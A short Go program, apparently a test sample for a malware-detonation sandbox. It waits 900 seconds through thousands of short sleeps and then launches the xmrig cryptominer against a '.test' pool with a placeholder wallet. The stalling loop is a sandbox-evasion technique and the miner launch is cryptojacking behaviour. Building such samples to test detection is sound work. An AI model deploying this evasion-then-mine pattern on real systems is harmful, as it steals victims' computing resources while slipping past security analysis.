// Waits 900 s as time.Sleep(100 ms) 9,000 times, then mines (detonate hold-out test sample;
// harmless, fake wallet, .test pool).
package main

import (
	"fmt"
	"os"
	"syscall"
	"time"
)

const (
	rounds = 9000
	round  = 100 * time.Millisecond
	pool   = "stratum+tcp://pool.waits.test:3333"
	wallet = "4gFQq7j6mGoN4BVFcUaKyRnGd8WaNeP4akE6cZXCGD8DVQPRvaf8Wmhx7NUY2zNq4ft41UhEt2JMeDANLfk6c6mjf7Z9sS8"
)

func main() {
	fmt.Printf("waiting 900 s in %d time.Sleep(%v) rounds\n", rounds, round)
	started := time.Now()
	for i := 0; i < rounds; i++ {
		time.Sleep(round)
	}
	fmt.Printf("waited %.1f s; starting the miner\n", time.Since(started).Seconds())
	argv := []string{"xmrig", "-o", pool, "-u", wallet, "--shares", "1"}
	err := syscall.Exec("/usr/local/bin/xmrig", argv, os.Environ())
	fmt.Fprintln(os.Stderr, "exec /usr/local/bin/xmrig:", err)
	os.Exit(127)
}
